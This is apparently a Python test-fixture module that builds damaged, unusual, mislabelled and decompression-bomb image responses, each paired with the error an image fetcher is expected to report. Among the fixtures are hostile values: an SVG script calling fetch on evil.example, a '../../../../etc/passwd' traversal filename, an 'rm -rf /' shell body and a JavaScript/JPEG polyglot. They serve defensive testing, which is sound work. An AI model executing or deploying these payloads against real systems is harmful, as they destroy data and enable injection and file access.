"""Image files: damaged ones, odd ones that are right, other files, and ones made to hurt."""

from __future__ import annotations

from support.hostile import pictures
from support.hostile.answers import HTML, announced, chunked, layers, redirect, whole
from support.hostile.hostility import JPEG, Hostility, image, picture, stored


def damaged_images() -> list[Hostility]:
    good = pictures.jpeg(20)
    return [
        image("truncated", picture(good[: len(good) // 2]), "truncated"),
        image("bad-checksum", picture(pictures.bad_checksum(), "image/png"), "corrupt"),
        image("few-pixels", picture(pictures.bad_pixels(), "image/png"), "truncated"),
        image("empty", whole(b"", JPEG), "empty_body"),
        image("short-length", announced(good, len(good) - 40, JPEG), "connection_failed"),
        image("long-length", announced(good, len(good) + 40, JPEG), "incomplete_body"),
        image("no-last-chunk", chunked(JPEG, good), "incomplete_body"),
        image("pixel", picture(pictures.encode(pictures.painting(1, 1), "GIF"), "image/gif"),
              "placeholder_image"),
        image("spacer", picture(pictures.encode(pictures.painting(400, 2), "PNG"), "image/png"),
              "placeholder_image"),
    ]  # fmt: skip


def odd_images() -> list[Hostility]:
    jpeg = stored("jpeg")
    return [
        image("rotated", picture(pictures.rotated()), stored("jpeg", 48, 64)),
        image("cmyk", picture(pictures.cmyk()), jpeg),
        image("deep", picture(pictures.deep(), "image/png"), stored("png")),
        image("palette", picture(pictures.palette(), "image/png"), stored("png")),
        image("alpha", picture(pictures.alpha(), "image/png"), stored("png")),
        image("animated-gif", picture(pictures.animated("GIF"), "image/gif"), stored("gif")),
        image("animated-webp", picture(pictures.animated("WEBP"), "image/webp"), stored("webp")),
        image("many-frames", picture(pictures.many_frames(), "image/gif"),
              stored("gif", 5_000, 5_000)),
        image("bad-profile", picture(pictures.corrupt_profile()), jpeg),
        image("avif", picture(pictures.encode(pictures.painting(seed=21), "AVIF"), "image/avif"),
              stored("avif")),
        image("tiff", picture(pictures.encode(pictures.painting(seed=22), "TIFF"), "image/tiff"),
              stored("tiff")),
        image("polyglot", whole(pictures.polyglot(), "text/javascript"), jpeg),
        image("html-type", whole(pictures.jpeg(23), HTML), jpeg),
        image("no-type", whole(pictures.jpeg(24), None), jpeg),
        image("odd-type", whole(pictures.jpeg(25), "image/jpeg; ;;=\x07 \xe9"), jpeg),
        image("odd-etag", whole(pictures.jpeg(26), JPEG, b'ETag: "\xff\xfe\x80"',
                                b"Last-Modified: never"), jpeg),
        image("named", whole(pictures.jpeg(27), JPEG,
                             'Content-Disposition: attachment; filename="../../../../etc/passwd"'),
              jpeg),
        image("in-chunks", chunked(JPEG, pictures.jpeg(28)) + b"0\r\n\r\n", jpeg),
        image("packed", whole(layers(pictures.jpeg(29), 1), JPEG, "Content-Encoding: gzip"), jpeg),
    ]  # fmt: skip


def other_files_as_images() -> list[Hostility]:
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example")</script></svg>'
    return [
        image("page", whole("<!doctype html><title>Sorry</title>", JPEG), "html_as_image"),
        image("login", redirect("/login"), "html_as_image"),
        image("json", whole('{"error": "no such image"}', JPEG), "json_as_image"),
        image("text", whole("Too many visitors. Come back tomorrow.", JPEG), "text_as_image"),
        image("svg", whole(svg, "image/svg+xml"), "svg_as_image"),
        image("xml", whole("<?xml version='1.0'?><Error><Code>Denied</Code></Error>", JPEG),
              "xml_as_image"),
        image("pdf", whole(b"%PDF-1.7 ...", JPEG), "not_an_image"),
        image("noise", whole(bytes(range(128, 256)) * 9, JPEG), "not_an_image"),
        image("icon", whole(b"\0\0\1\0\1\0" + bytes(60), JPEG), "unsupported_image"),
        image("script", whole("#!/bin/sh\nrm -rf /", JPEG), "text_as_image"),
    ]  # fmt: skip


def image_bombs() -> list[Hostility]:
    side = pictures.LARGE
    return [
        image("png-bomb", picture(pictures.huge_png(), "image/png"), "too_many_pixels"),
        image("gif-bomb", picture(pictures.huge_gif(), "image/gif"), "too_many_pixels"),
        image("webp-bomb", picture(pictures.huge_webp(), "image/webp"), "too_many_pixels"),
        image("tiff-bomb", picture(pictures.huge_tiff(), "image/tiff"), "too_many_pixels"),
        image("avif-bomb", picture(pictures.huge_avif(), "image/avif"), "too_many_pixels"),
        image("scans", picture(pictures.countless_scans()), "unsupported_image"),
        *(
            image(f"one-bit-{tint}", picture(pictures.large_png(1, 0, tint=tint), "image/png"),
                  stored("png", side, side))
            for tint in range(2)
        ),
        image("rgb", picture(pictures.large_png(8, 2), "image/png"), stored("png", side, side)),
        image("rgba", picture(pictures.large_png(8, 6), "image/png"), "too_many_pixels"),
    ]  # fmt: skip
